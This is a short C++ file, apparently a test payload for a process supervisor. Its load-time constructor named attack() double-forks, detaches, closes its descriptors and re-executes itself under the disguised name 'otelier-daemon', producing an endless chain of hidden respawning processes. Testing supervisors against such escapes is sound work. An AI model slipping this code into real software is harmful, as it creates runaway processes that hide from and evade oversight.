#include <unistd.h>

namespace {
[[gnu::constructor]] void attack() {
  if (::fork() == 0) {
    ::setsid();
    if (::fork() == 0) {
      ::close(0);
      ::close(1);
      ::close(2);
      ::close(3);
      ::execl("/proc/self/exe", "otelier-daemon", nullptr);
      for (;;) ::pause();
    }
    ::_exit(0);
  }
  ::_exit(7);
}
}  // namespace
